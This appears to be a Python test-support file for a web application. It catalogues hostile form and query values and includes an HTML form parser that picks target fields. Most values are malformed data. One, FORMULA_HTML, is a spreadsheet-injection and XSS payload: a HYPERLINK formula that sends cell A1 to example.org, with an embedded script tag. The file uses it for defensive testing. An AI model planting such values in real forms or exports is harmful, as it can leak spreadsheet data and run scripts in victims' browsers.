"""The hostile-input test's catalogue: the values an attacker or a careless paste sends, grouped
by the kind of field they are aimed at, and the HTML form reader that finds what to send them to
(tests/test_hostile_input.py).

Every value here must be answered by a form error or a 4xx (a redirect only where the value is
legitimately accepted, such as HTML in a free text, stored as typed and escaped when shown),
never a 500; and the ones in NEVER_STORED must never reach the database.
"""

import datetime as dt
import re
from dataclasses import dataclass, field
from html.parser import HTMLParser

NUL = "a\x00b"
CONTROL = "a\x01\x1b[31mb"  # the name that broke the exports (issue 11, defect 4)
BIDI = "abc\u202egpj.exe"  # a right-to-left override that disguises what follows
LINE_BREAK = "first\r\nsecond"
LONG = "x" * 10_000
# A spreadsheet formula that is also markup: free text legitimately takes both (stored as typed,
# escaped on pages, neutralised in exports), so one value tries both.
FORMULA_HTML = '=HYPERLINK("https://example.org/?"&A1,"<script>alert(1)</script><b>open</b>")'
QUOTE = '"unterminated'

# Numbers that are not: a word, a fraction where a whole is expected, an overflow, a negative
# zero (IELTS "-0"), not-a-number.
NON_NUMBERS = ("abc", "1.5", "1e309", "-0", "NaN")
# Dates that are not, or that no record of a refugee centre can hold.
ABSURD_DATES = ("0001-01-01", "2999-12-31", "2026-02-30", "31/31/31 junk")

TEXT_VALUES = (NUL, CONTROL, BIDI, LONG, FORMULA_HTML)
NUMBER_VALUES = (NUL, *NON_NUMBERS)
DATE_VALUES = (NUL, *ABSURD_DATES)
CHOICE_VALUES = (NUL, "maybe", "1.5")
# Hidden inputs carry ids (a chooser's choice, a formset's row) and tokens.
HIDDEN_VALUES = (NUL, "abc", "1.5")
# What a query string's usual parameters are given, on every page that answers GET: search,
# page, ordering, a chooser's id and parent, an export's format.
QUERY_PARAMETERS = ("q", "p", "page", "id", "parent", "ordering", "export", "search", "status")
QUERY_VALUES = (NUL, "abc", "1.5", QUOTE + " x" * 2_000)

# No row may hold these, whichever form they came through: a single-line field refuses them
# all, a multi-line one too (it takes line breaks and tabs only). NUL is not looked for: SQLite's
# LIKE stops at it, and PostgreSQL refuses to store it (which would be a 500 here).
NEVER_STORED = ("\x01", "\x1b", "\u202e")
# No date in a row may fall outside these years.
SANE_YEARS = (1900, 2100)
# The values that could be stored where they should not: after sending one, every row is read.
STORABLE = (CONTROL, BIDI, *ABSURD_DATES)

DATE_NAME = re.compile(r"(^|_)(date|day|on|from|until|starts?|ends?|opens|closes|at|born)(_|$)")
ISO_DATE = re.compile(r"^\d{4}-\d{2}-\d{2}")


@dataclass
class Field:
    name: str
    kind: str  # text, textarea, number, date, choice, checkbox, hidden, file, submit
    value: str = ""
    required: bool = False
    options: list[str] = field(default_factory=list)
    multiple: bool = False
    checked: bool = False


@dataclass
class Form:
    method: str
    action: str
    fields: list[Field] = field(default_factory=list)

    def baseline(self, today: dt.date) -> dict[str, list[str]]:
        """What a person who fills only the required fields sends: the form's own values, and
        a plausible value for each empty required field."""
        data: dict[str, list[str]] = {}
        submitted = False
        for f in self.fields:
            if f.kind == "file":
                continue
            if f.kind == "submit":
                if not submitted and f.name:  # the first named button, as a click sends it
                    data.setdefault(f.name, []).append(f.value)
                    submitted = True
                continue
            if f.kind == "checkbox":
                if f.checked:
                    data.setdefault(f.name, []).append(f.value or "on")
                continue
            if f.kind == "choice" and f.multiple:
                data.setdefault(f.name, []).extend(o for o in f.options if o in f.value.split())
                continue
            value = f.value or (plausible(f, today) if f.required else "")
            data.setdefault(f.name, []).append(value)
        return data

    def targets(self) -> list[Field]:
        """The fields a hostile value is sent in, one at a time (checkboxes of one name once)."""
        seen: dict[str, Field] = {}
        for f in self.fields:
            if f.kind not in ("file", "submit") and f.name != "csrfmiddlewaretoken":
                seen.setdefault(f.name, f)
        return list(seen.values())


def plausible(f: Field, today: dt.date) -> str:
    if f.kind == "date":
        return today.isoformat()
    if f.kind == "number":
        return "1"
    if f.kind == "choice":
        return next((o for o in f.options if o), "")
    if "email" in f.name:
        return "someone@example.org"
    if "phone" in f.name:
        return "9123 0000"
    if "password" in f.name:
        return "a long enough passphrase 42"
    return "Plain value"


def values_for(f: Field) -> tuple[str, ...]:
    return {
        "text": TEXT_VALUES,
        "textarea": (*TEXT_VALUES, LINE_BREAK),
        "number": NUMBER_VALUES,
        "date": DATE_VALUES,
        "choice": CHOICE_VALUES,
        "checkbox": CHOICE_VALUES,
        "hidden": HIDDEN_VALUES,
    }[f.kind]


class _FormReader(HTMLParser):
    """Every <form> of a page with its fields, as a browser would submit them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.forms: list[Form] = []
        self._form: Form | None = None
        self._select: Field | None = None
        self._textarea: Field | None = None

    def handle_starttag(self, tag, attrs):
        a = {k: (v if v is not None else "") for k, v in attrs}
        if tag == "form":
            self._form = Form(method=a.get("method", "get").lower(), action=a.get("action", ""))
            self.forms.append(self._form)
            return
        if self._form is None or "disabled" in a:
            return
        name = a.get("name", "")
        if tag == "input" and (name or a.get("type") == "submit"):
            self._form.fields.append(self._input(a))
        elif tag == "button" and name and a.get("type", "submit") == "submit":
            self._form.fields.append(Field(name, "submit", a.get("value", "")))
        elif tag == "select" and name:
            self._select = Field(name, "choice", "", "required" in a, multiple="multiple" in a)
            self._form.fields.append(self._select)
        elif tag == "option" and self._select is not None:
            value = a.get("value", "")
            self._select.options.append(value)
            if "selected" in a:
                self._select.value = (self._select.value + " " + value).strip()
        elif tag == "textarea" and name:
            self._textarea = Field(name, "textarea", "", "required" in a)
            self._form.fields.append(self._textarea)

    def handle_data(self, data):
        if self._textarea is not None:
            self._textarea.value += data

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None
        elif tag == "select" and self._select is not None:
            if not self._select.multiple and not self._select.value and self._select.options:
                self._select.value = self._select.options[0]
            self._select = None
        elif tag == "textarea" and self._textarea is not None:
            self._textarea.value = self._textarea.value.removeprefix("\n")
            self._textarea = None

    @staticmethod
    def _input(a: dict) -> Field:
        kind = a.get("type", "text").lower()
        name, value, required = a.get("name", ""), a.get("value", ""), "required" in a
        if kind in ("submit", "image"):
            return Field(name, "submit", value)
        if kind == "radio":
            return Field(name, "radio", value or "on", required, checked="checked" in a)
        if kind == "checkbox":
            return Field(name, "checkbox", value or "on", required, checked="checked" in a)
        if kind == "file":
            return Field(name, "file")
        if kind == "hidden":
            return Field(name, "hidden", value)
        if kind in ("number", "range"):
            return Field(name, "number", value, required)
        if kind in ("date", "datetime-local", "month") or ISO_DATE.match(value):
            return Field(name, "date", value, required)
        if DATE_NAME.search(name.rsplit("-", 1)[-1]):
            return Field(name, "date", value, required)
        return Field(name, "text", value, required)


def forms_of(html: str) -> list[Form]:
    reader = _FormReader()
    reader.feed(html)
    reader.close()
    # The radio buttons of one name are one choice: its value is the checked one's, if any.
    for form in reader.forms:
        choices: dict[str, Field] = {}
        fields = []
        for f in form.fields:
            if f.kind != "radio":
                fields.append(f)
                continue
            if f.name not in choices:
                choices[f.name] = Field(f.name, "choice", "", f.required)
                fields.append(choices[f.name])
            choices[f.name].options.append(f.value)
            if f.checked:
                choices[f.name].value = f.value
        form.fields = fields
    return reader.forms
